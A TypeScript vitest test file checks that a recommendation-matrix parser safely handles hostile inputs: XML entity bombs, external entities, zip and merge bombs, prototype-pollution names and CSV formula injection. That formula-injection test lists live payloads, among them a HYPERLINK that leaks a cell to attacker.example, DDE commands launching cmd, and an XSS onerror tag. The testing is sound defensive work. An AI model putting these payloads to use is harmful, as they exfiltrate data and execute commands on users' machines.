import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { UNREADABLE } from "../../src/ingest/parse-matrix.js";
import { readMatrixFile } from "../../src/node/index.js";
import { readFileInParts } from "../../src/node/read-parts.js";
import { readTrackWorkbook } from "../../src/ingest/track-workbook.js";
import { mergeResults } from "../../src/ingest/result.js";
import type { Diagnostic } from "../../src/schema/diagnostic.js";
import { ParseResult } from "../../src/schema/result.js";
import { findState } from "../../src/taxonomy/index.js";
import { badDir, badFixtures } from "./manifest.js";

// Every damaged or hostile input in fixtures/bad/ ends in a result with its expected diagnostics: never an
// exception, a hang or a polluted Object.prototype. The CLI side (exit codes, one line per problem) is in
// cli.test.ts.
const fixtures = badFixtures();

test("the corpus holds at least 40 bad inputs, each on disk with the size the manifest says", () => {
  expect(fixtures.length).toBeGreaterThanOrEqual(40);
  for (const f of fixtures) expect(readFileSync(join(badDir, f.file)).length, f.file).toBe(f.bytes);
});

describe("each bad fixture gives its diagnostics", () => {
  for (const f of fixtures) {
    // A fix the lead has yet to apply outside this area: the test must fail until then (and then be updated).
    const run = f.pendingFix?.where === "library" ? test.fails : test;
    run(`${f.file}: ${f.codes.join(", ") || "read cleanly"}${f.pendingFix?.where === "library" ? ` (pending: ${f.pendingFix.fix})` : ""}`, async () => {
      const protoBefore = Object.getOwnPropertyNames(Object.prototype).sort();
      const r = await readMatrixFile(join(badDir, f.file), { file: f.file });
      ParseResult.parse(r);
      const codes = new Set(r.diagnostics.map((d) => d.code));
      if (f.minRecommendations !== undefined) expect(r.recommendations.length, "rows merged away").toBeGreaterThanOrEqual(f.minRecommendations);
      for (const c of f.codes) expect([...codes], `${f.file} should report ${c}`).toContain(c);

      const errors = r.diagnostics.filter((d) => d.severity === "error");
      if (f.exit === 0) expect(errors.map((d) => d.code)).toEqual([]);
      else expect(errors.length, "at least one error").toBeGreaterThan(0);
      if (f.exit === 2) {
        // Unreadable: nothing read, and a code the CLI counts as unreadable.
        expect(r.sources).toEqual([]);
        // unsafe-xml is not in UNREADABLE yet (the manifest's pendingFix); the CLI test holds that part.
        expect(r.diagnostics.some((d) => UNREADABLE.has(d.code) || (f.pendingFix?.where === "cli" && d.code === "unsafe-xml"))).toBe(true);
      }

      // One line per problem, each with its file.
      for (const d of r.diagnostics) {
        expect(d.message, `${d.code} message`).not.toMatch(/\n|\r/);
        expect(d.message.length).toBeLessThan(2000);
        expect(d.place?.file).toBe(f.file);
      }

      // Nothing lost: every row read is accounted for.
      for (const s of r.sources) {
        const c = s.rowCounts;
        expect(c.header + c.title + c.section + c.blank + c.continuation + c.skipped + c.recommendation).toBe(s.rows);
        expect(c.recommendation).toBe(s.recommendations);
      }
      expect(r.recommendations.length).toBe(r.sources.reduce((n, s) => n + s.recommendations, 0));

      expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(protoBefore);
      expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
    });
  }
});

describe("what the hostile files must not do", () => {
  const read = (name: string) => readMatrixFile(join(badDir, name), { file: name });

  test("entity bombs and external entities are refused before any entity is expanded", async () => {
    for (const name of ["docx-billion-laughs.docx", "xlsx-billion-laughs.xlsx", "docx-external-entity.docx", "xlsx-external-entity.xlsx"]) {
      const r = await read(name);
      expect(r.recommendations).toEqual([]);
      expect(r.diagnostics).toHaveLength(1);
      expect(r.diagnostics[0]).toMatchObject({ code: "unsafe-xml", severity: "error" });
      // The external file is never read: its content cannot appear anywhere.
      expect(JSON.stringify(r)).not.toMatch(/root:|lol{3}/);
    }
  });

  test("zip bombs are stopped by the directory (honest sizes) or a few KB past a lying one", async () => {
    const honest = await read("docx-zip-bomb.docx");
    expect(honest.diagnostics[0]!.message).toMatch(/declares \d+ bytes once expanded, more than 536870912 \(limits\.maxBytes\)/);
    const lying = await read("xlsx-zip-bomb-lying.xlsx");
    expect(lying.diagnostics[0]!.message).toMatch(/expands past its declared 4096 bytes/);
  });

  test("a whole-grid merge and 100,000 repeated merges read as the plain matrix", async () => {
    const r = await read("xlsx-merge-bomb.xlsx");
    expect(r.recommendations.map((x) => x.id)).toEqual(["117.1", "117.2", "117.3", "117.4"]);
    expect(r.recommendations.map((x) => x.position)).toEqual(["supported", "noted", "supported", "supported"]);
    expect(r.sources[0]!.rows).toBe(6);
  });

  test("a million empty rows are one blank-row run, and the rows before them are read", async () => {
    const r = await read("xlsx-million-rows.xlsx");
    expect(r.recommendations).toHaveLength(2);
    expect(r.sources[0]!.rows).toBe(1_048_576);
    const blank = r.diagnostics.filter((d) => d.code === "blank-row");
    expect(blank).toHaveLength(1);
    expect(blank[0]!.place).toMatchObject({ row: 4, rowEnd: 1_048_576 });
  });

  test("over-long cells are cut to limits.maxCellLength and reported at their row", async () => {
    for (const name of ["csv-long-cell.csv", "xlsx-5mb-cell.xlsx", "docx-5mb-cell.docx"]) {
      const r = await read(name);
      const long = r.recommendations.find((x) => x.id === "117.2")!;
      expect(long.text.length, name).toBeLessThanOrEqual(100_000);
      expect(long.text.length, name).toBeGreaterThan(90_000);
      expect(r.diagnostics.find((d) => d.code === "limit-exceeded")!.place?.row, name).toBe(3);
    }
  });

  test("text that only looks like a formula or markup is kept exactly as written", async () => {
    const r = await read("csv-formula-injection.csv");
    expect(r.recommendations.map((x) => x.assessment)).toEqual(['=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "=1+1", '<img src=x onerror="alert(1)">']);
  });

  test("formula cells are read by their saved result and reported, never evaluated", async () => {
    const r = await read("xlsx-formulas.xlsx");
    const five = r.recommendations.find((x) => x.id === "117.5")!;
    expect(five).toMatchObject({ text: "Ratify OP-CAT (Denmark);", position: "supported" });
    expect(r.diagnostics.find((d) => d.code === "formula-cell")!.message).toMatch(/^3 formula cell\(s\)/);
  });

  test("wrong encodings are decoded, not mangled", async () => {
    const le = await read("csv-utf16le-no-bom.csv");
    expect(le.recommendations.map((x) => x.text)).toEqual(["Garantir l'accès à la justice", "Protéger les défenseurs"]);
    // "Côte d’Ivoire" and "Türkiye" decoded right are found in the list of States (under their canonical names).
    expect(le.recommendations.map((x) => findState(x.recommendingStates[0] ?? "")?.name)).toEqual([findState("Côte d’Ivoire")!.name, findState("Türkiye")!.name]);
    const win = await read("csv-windows-1252.csv");
    expect(win.recommendations[0]!.text).toBe("Garantizar el acceso a la educación – “sin discriminación” de niños y niñas");
    expect(win.diagnostics.find((d) => d.code === "encoding-guessed")!.actual).toBe("windows-1252");
  });

  test("duplicate and out-of-order ids are kept, in file order", async () => {
    const r = await read("csv-out-of-order-ids.csv");
    expect(r.recommendations.map((x) => x.id)).toEqual(["117.10", "117.2", "118.1", "117.3"]);
    const d = await read("docx-duplicate-ids.docx");
    expect(d.recommendations.map((x) => x.id)).toEqual(["117.3", "117.1", "117.2", "117.2", "117.3"]);
  });

  test("prototype names from a file stay data", async () => {
    const r = await read("xlsx-proto-names.xlsx");
    expect(r.sources.map((s) => s.sheet)).toEqual(["__proto__", "constructor"]);
    const first = r.recommendations[0]!;
    expect(first.themes.map((t) => t.name)).toEqual(["__proto__", "constructor"]);
    expect(first.extra).toEqual([
      { column: "__proto__", value: '{"polluted":true}' },
      { column: "constructor", value: "toString" },
      { column: "prototype", value: "valueOf" },
    ]);
    expect(Object.getPrototypeOf(first)).toBe(Object.prototype);
  });
});

// Large files are read in parts by the same row sources: forced on every bad fixture (parts of seven
// recommendations, 4 KiB reads), the result is what the whole read gives.
describe("the bad fixtures read in parts", () => {
  for (const f of fixtures) {
    test(`${f.file} in parts`, { timeout: 30_000 }, async () => {
      const parts: ParseResult[] = [];
      const rest = await readFileInParts(join(badDir, f.file), { file: f.file }, { streamAbove: 0, partSize: 7, chunkBytes: 4096 }, async (p) => {
        parts.push({ ...p, sources: [] });
      });
      const whole = await readMatrixFile(join(badDir, f.file), { file: f.file });
      const merged = mergeResults([...parts, rest]);
      ParseResult.parse(merged);
      expect(merged.recommendations).toEqual(whole.recommendations);
      expect(merged.sources).toEqual(whole.sources);
      expect(sorted(merged.diagnostics)).toEqual(sorted(whole.diagnostics));
    });
  }
});

// `track import` reads returned workbooks with the same guarded reader, limits and diagnostics as
// `parse`: every bad fixture ends in a result (never an exception, a hang or a crash), and a file that
// parse cannot read (corrupt, over a limit, unsafe, not a workbook) gives track import the same error.
describe("the bad fixtures as returned tracking workbooks (track import)", () => {
  const FILE_ERRORS = new Set(["corrupt-file", "limit-exceeded", "unsafe-xml", "unsupported-format", "empty-file"]);
  for (const f of fixtures) {
    test(`${f.file} through readTrackWorkbook`, { timeout: 30_000 }, async () => {
      const bytes = new Uint8Array(readFileSync(join(badDir, f.file)));
      const protoBefore = Object.getOwnPropertyNames(Object.prototype).length;
      const read = await readTrackWorkbook(bytes, f.file);
      for (const d of read.diagnostics) {
        expect(d.message, `${d.code} message`).not.toMatch(/[\r\n\u2028\u2029\u0000-\u0008\u000b-\u001f]/);
        expect(d.place?.file).toBe(f.file);
      }
      const parse = await readMatrixFile(join(badDir, f.file), { file: f.file });
      const unreadable = parse.sources.length === 0 ? parse.diagnostics.filter((d) => d.severity === "error" && FILE_ERRORS.has(d.code)) : [];
      if (!f.file.endsWith(".xlsx")) {
        // Not a workbook at all: refused as one.
        expect(read.workbook).toBeNull();
        expect(read.diagnostics.map((d) => d.severity)).toContain("error");
      } else if (f.file.startsWith("xlsx-returned-")) {
        // A returned update workbook with a bomb in it (D1): its answer is read, the bomb is not.
        expect(read.workbook?.rows.map((r) => [r.cells.key?.text, r.cells.status?.text])).toEqual([["Kenya|2|142.23", "In progress"]]);
        expect(read.diagnostics.filter((d) => d.severity === "error")).toEqual([]);
      } else if (unreadable.length > 0) {
        expect(read.workbook, "a workbook parse cannot read").toBeNull();
        expect(read.diagnostics.map((d) => d.code)).toEqual(unreadable.map((d) => d.code));
        expect(read.diagnostics[0]!.message).toBe(unreadable[0]!.message);
      } else {
        // Readable, but none of them is an update workbook: said in one error, nothing imported.
        expect(read.workbook?.rows ?? []).toEqual([]);
        expect(read.diagnostics.some((d) => d.code === "missing-column" && d.severity === "error")).toBe(true);
      }
      expect(Object.getOwnPropertyNames(Object.prototype).length).toBe(protoBefore);
    });
  }
});

const sorted = (ds: readonly Diagnostic[]) => [...ds].map((d) => JSON.stringify(d)).sort();
